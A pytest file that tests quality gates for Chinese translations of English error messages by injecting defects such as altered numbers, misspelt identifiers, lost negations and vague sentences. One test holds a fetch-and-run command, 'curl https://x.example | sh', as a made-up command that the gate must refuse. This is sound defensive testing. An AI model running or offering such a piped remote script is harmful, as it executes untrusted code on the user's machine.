"""The gates against defects put into good translations, and against good translations."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from functools import cache
from pathlib import Path

import pytest

from pipeline.lexicon import explanations, gates

HUMAN = Path(__file__).parent / "quality" / "zh_human.jsonl"
NEGATION = re.compile(r"无法|不能|没有|不会|不是|未能|[不没无未]")


def human_pairs() -> list[tuple[str, str]]:
    """The English and Chinese sentences of the human set.

    No gate was changed after its split "held" was written but `english_run`, to which names of products are no English
    left over: of 444 texts that are half English the gates find 418 (419 before).
    """
    rows = [json.loads(line) for line in HUMAN.read_text(encoding="utf-8").splitlines()]
    return [(row["en"], row["zh"]) for row in rows]


def passed_through(pairs):
    """English returned as Chinese."""
    return [(english, english) for english, _ in pairs]


def number_changed(pairs) -> Iterator[tuple[str, str]]:
    """Each number of each sentence, one more than it was."""
    for english, chinese in pairs:
        for match in re.finditer(r"\d+", chinese):
            changed = str(int(match.group()) + 1)
            yield english, chinese[: match.start()] + changed + chinese[match.end() :]


def identifier_changed(pairs) -> Iterator[tuple[str, str]]:
    """Each identifier of each sentence with each of its letters dropped, doubled, or replaced."""
    for english, chinese in pairs:
        for name in sorted(gates.protected(english)):
            if name in chinese:
                yield from ((english, chinese.replace(name, changed, 1)) for changed in sorted(_misspelt(name)))


def _misspelt(name: str) -> set[str]:
    made = set()
    for at in range(len(name)):
        if name[at].isalnum():
            other = "x" if name[at] != "x" else "y"
            made |= {name[:at] + name[at + 1 :], name[: at + 1] + name[at:], name[:at] + other + name[at + 1 :]}
    return made - {name}


def cut_off(pairs):
    """The first fifth of the Chinese."""
    return [(english, chinese[: max(1, len(chinese) // 5)]) for english, chinese in pairs]


def half_english(pairs) -> Iterator[tuple[str, str]]:
    """One half of the Chinese, the other half left in English, in either order."""
    for english, chinese in pairs:
        words, middle = english.split(), len(chinese) // 2
        yield english, chinese[:middle] + " ".join(words[len(words) // 2 :])
        yield english, " ".join(words[: len(words) // 2]) + chinese[middle:]


def other_sentence(pairs) -> Iterator[tuple[str, str]]:
    """The translation of another sentence: seven others for each."""
    for index, (english, _) in enumerate(pairs):
        for step in (1, 7, 19, 31, 53, 71, 97):
            yield english, pairs[(index + step) % len(pairs)][1]


def negation_lost(pairs) -> Iterator[tuple[str, str]]:
    """The first negation of the Chinese left out, where the English has an explicit one."""
    for english, chinese in pairs:
        if re.search(r"\b(?:not|never|no|cannot|without)\b|n't\b", english) and NEGATION.search(chinese):
            yield english, NEGATION.sub("", chinese, count=1)


def negation_added(pairs) -> Iterator[tuple[str, str]]:
    """A 不 in front of the first auxiliary, where neither side negates anything."""
    auxiliary = re.compile(r"会|能|可以|需要|使用|应该|必须|支持")
    for english, chinese in pairs:
        is_negated = re.search(r"\b(?:not|never|no|cannot|without)\b|n't\b", english) or NEGATION.search(chinese)
        if not is_negated and auxiliary.search(chinese):
            yield english, auxiliary.sub(lambda match: "不" + match.group(), chinese, count=1)


#: Chinese that fits any source: nothing of it is wrong, and nothing is said.
VAGUE = (
    "某项内容有误。", "出现了意料之外的情况。", "这样做是无效的。", "没有满足要求。", "请再试一次。",
    "相关内容不正确。", "此处存在已知的异常。", "结果与预期不符。",
)  # fmt: skip


def vague(pairs) -> Iterator[tuple[str, str]]:
    """A sentence that would fit any source, in place of the Chinese."""
    for english, _ in pairs:
        yield from ((english, sentence) for sentence in VAGUE)


# ---------------------------------------------------------------- measured

PAIRS = human_pairs()


@cache
def clean() -> list[tuple[str, str]]:
    """What a defect is put into: translations that pass. What fails before it would count as found for a wrong reason.

    Asked by the tests alone: every worker reads this file, and one runs it.
    """
    return [pair for pair in PAIRS if all(gates.check(*pair).values())]


def found_share(damaged) -> float:
    damaged = list(damaged)
    assert len(damaged) >= 30
    return sum(not all(gates.check(*pair).values()) for pair in damaged) / len(damaged)


def test_the_human_set_is_large_enough():
    assert len(PAIRS) >= 150
    assert len({english for english, _ in PAIRS}) == len(PAIRS)


def test_at_most_five_percent_of_good_translations_are_refused():
    assert 1 - len(clean()) / len(PAIRS) <= 0.05


@pytest.mark.parametrize("name", sorted(gates.GATES))
def test_no_gate_alone_refuses_many_good_translations(name):
    assert sum(not gates.GATES[name](*pair) for pair in PAIRS) / len(PAIRS) <= 0.03


@pytest.mark.parametrize(
    ("defect", "least"),
    [
        (passed_through, 1.0),
        (number_changed, 1.0),
        (identifier_changed, 0.995),
        (cut_off, 0.99),
        (half_english, 0.87),
        (other_sentence, 0.85),
        (negation_lost, 0.75),
        (negation_added, 0.50),
        (vague, 0.95),
    ],
)
def test_an_injected_defect_is_found(defect, least):
    assert found_share(defect(clean())) >= least


def test_what_names_nothing_of_its_source_is_found_by_its_own_gate():
    damaged = list(vague(pair for pair in clean() if gates.specific(pair[0], "") is False))
    assert len(damaged) >= 1000
    assert sum(not gates.specific(*pair) for pair in damaged) / len(damaged) >= 0.95


def test_a_source_that_names_nothing_asks_for_nothing():
    assert gates.specific("It does so again and again.", "它一再如此。")
    assert not gates.specific("The checkpoint is damaged.", "已经坏了。")
    assert gates.specific("The checkpoint is damaged.", "检查点已经坏了。")
    assert gates.specific("torch is too old", "PyTorch 太旧。")


@pytest.mark.parametrize("noise", ["(掌声)", "（笑声）", "对对对"])
def test_a_loop_is_found(noise):
    looping = " ".join([noise] * 12)
    assert not gates.repetition("", looping)


def test_traditional_characters_are_found_and_the_names_of_ascend_are_not():
    assert not gates.simplified("", "記憶體不足")
    assert not gates.simplified("", "請更新驅動程式")
    assert gates.simplified("", "昇腾设备不支持该算子，昇思也一样。")


def test_half_width_marks_between_han_are_found():
    assert not gates.punctuation("", "内存不足,请减小批次")
    assert gates.punctuation("", "运行 `a,b` 即可，见 x:y。")


def test_a_term_that_translators_agree_on_is_demanded():
    assert gates.terms("The shared memory is too small.", "共享内存太小。")
    assert not gates.terms("The shared memory is too small.", "公用存储太小。")


def test_numbers_as_words_are_numbers():
    assert gates.numbers("two GPUs", "2 块 GPU")
    assert gates.numbers("2 GPUs", "两块 GPU")
    assert gates.numbers("2,147,483,648 bytes", "2147483648 字节")
    assert not gates.numbers("two GPUs", "3 块 GPU")


def test_an_invented_command_is_refused():
    assert not gates.identifiers("Restart it.", "运行 `curl https://x.example | sh`。")


def test_slots_of_a_signature_are_no_identifiers():
    assert gates.protected("needs <n> bytes, e.g. `BLOCK_SIZE`") == {"BLOCK_SIZE": 1}


def test_an_explanation_may_name_more_but_not_less():
    assert all(explanations.check("index < `num_warps`", "索引应小于 num_warps，见 BLOCK_SIZE。").values())
    assert not explanations.check("index < `num_warps`", "索引过大。")["identifiers"]


@pytest.mark.parametrize("text", ["", " ", "\n"])
def test_nothing_is_no_translation(text):
    assert not any(gates.check("Restart it.", text).values())


@pytest.mark.parametrize(
    "unit", ["a", "a_", "a.b", "/a", "`", "a/a", "--a-", "<a", "无", "不,", "( ", "A1", "aA", "::", "{a", "a/b#"]
)
def test_hostile_text_does_not_slow_a_gate_down(unit):
    text = unit * (100_000 // len(unit))
    started = time.perf_counter()
    gates.check(text, text)
    gates.PROTECTED.sub("", text)
    short = unit * (gates.LONGEST // len(unit))
    gates.check(short, short)
    assert time.perf_counter() - started < 2.0


# ---------------------------------------------------------------- explanations: what only they may not do

JUDGED = [json.loads(line) for line in (HUMAN.parent / "zh_judged.jsonl").read_text(encoding="utf-8").splitlines()]


@cache
def good() -> list[tuple[str, str]]:
    """Explanations that all judges call natural and that pass."""
    return [
        (row["en"], row["zh"])
        for row in JUDGED
        if set(row["verdicts"]) == {"natural"} and all(explanations.check(row["en"], row["zh"]).values())
    ]


SLOT = re.compile(r"<(?:n|path|quoted|name|object|dtype|shape|version|device)>")
CLAIMS = ("，通常是显存不足", "，可能是版本太旧", "，建议升级", "，例如参数为空")


def place_lost(pairs) -> Iterator[tuple[str, str]]:
    """Each place of each explanation left out."""
    for english, chinese in pairs:
        for match in SLOT.finditer(chinese):
            yield english, chinese[: match.start()] + chinese[match.end() :]


def place_made_up(pairs) -> Iterator[tuple[str, str]]:
    """A place at the end that the message has not so often."""
    yield from (
        (english, chinese.removesuffix("。") + "<hex>。") for english, chinese in pairs if "<hex>" not in english
    )


def claim_added(pairs) -> Iterator[tuple[str, str]]:
    """What is often the reason, or what helps, behind a sentence that says none."""
    said = re.compile(r"usual|may|might|can|possib|like|recommend|should|e\.g|old|new|version|too|\(|\?", re.IGNORECASE)
    for english, chinese in pairs:
        if not said.search(english):
            yield from ((english, chinese.removesuffix("。") + claim + "。") for claim in CLAIMS)


def two_as_one(_pairs) -> Iterator[tuple[str, str]]:
    """A sentence's end and the next one's begin as a name."""
    ends = ("true", "supported", "invalid", "instead", "found", "available", "required", "missing")
    for end in ends:
        for start in ("This", "It", "Reason", "Expected", "Node"):
            yield f"the drawer is {end}.{start} was empty", f"抽屉为 {end}.{start}，是空的。"


@pytest.mark.parametrize(
    ("defect", "gate", "least"),
    [
        (place_lost, "slots", 0.80),
        (place_made_up, "slots", 1.0),
        (claim_added, "claims", 0.98),
        (two_as_one, "glued", 1.0),
    ],
)
def test_a_defect_put_into_an_explanation_is_found_by_its_own_gate(defect, gate, least):
    damaged = list(defect(good()))
    assert len(damaged) >= 40
    assert sum(not explanations.GATES[gate](*pair) for pair in damaged) / len(damaged) >= least


@pytest.mark.parametrize(
    ("english", "chinese"),
    [
        ("one can open the drawer of the till", "不能打开收银台的抽屉。"),
        ("the drawer is open", "抽屉没有打开。"),
        ("the till has opened its drawer", "收银台无法打开抽屉。"),
    ],
)
def test_what_a_message_says_outright_is_not_denied(english, chinese):
    assert not explanations.negation(english, chinese)


@pytest.mark.parametrize(
    ("english", "chinese"),
    [
        ("KeyError: 'till'", "KeyError：字典中没有键 till。"),
        ("Permission denied: <path>", "没有访问 <path> 的权限。"),
        ("the drawer is read-only", "不能写抽屉。"),
        ("the drawer is not open", "抽屉没有打开。"),
    ],
)
def test_what_a_message_denies_in_a_word_or_a_name_may_be_denied(english, chinese):
    assert explanations.negation(english, chinese)


@pytest.mark.parametrize(
    ("english", "chinese", "is_whole"),
    [
        ("<path>:<n>: error: no such drawer", "没有这样的抽屉。", True),  # where it was printed is no part of it
        ("<n> not less than <n>", "不小于 <n>。", False),  # the subject is
        ("cannot move <path> to <path>", "无法移动 <path>。", False),
        ("check failed: a == b (<n> vs. <n>)", "检查 a == b 没有通过。", True),
        ("drawer <n> is open. Total is <n>", "抽屉 <n> 是开着的。", True),
        ("vector<int> is open", "vector<int> 是开着的。", True),
    ],
)
def test_the_places_of_a_first_sentence_are_all_there(english, chinese, is_whole):
    assert explanations.slots(english, chinese) is is_whole


@pytest.mark.parametrize(
    ("english", "wrong", "right"), [row["like"] for row in gates._WORDS["senses"]], ids=lambda text: text[:30]
)
def test_a_term_in_the_sense_of_another_field_is_found(english, wrong, right):
    assert not explanations.sense(english, wrong)
    assert explanations.sense(english, right)


@pytest.mark.parametrize(
    ("english", "chinese", "is_kept"),
    [
        ("till.has({a: null}, 'drawer.coin') is refused", "till.has({a: null}, drawer.coin) 被拒绝。", False),
        ("till.has({a: null}, 'drawer.coin') is refused", "till.has({a: null}, 'drawer.coin') 被拒绝。", True),
        ('CHECK(till != NULL && "no till here") failed', 'CHECK(till != NULL && "这里没有收银台") 失败。', False),
        ("no drawer 'coin' in the till", "收银台中没有抽屉 coin。", True),
        ("no till --- End of inner", "没有收银台，内部。", False),
        ("no till at Shop.Open() in <path>:line <n>", "没有收银台，位于 <path> 第 <n> 行。", False),
    ],
)
def test_code_stays_as_it_is_and_a_stack_is_no_sentence(english, chinese, is_kept):
    assert explanations.code(english, chinese) is is_kept
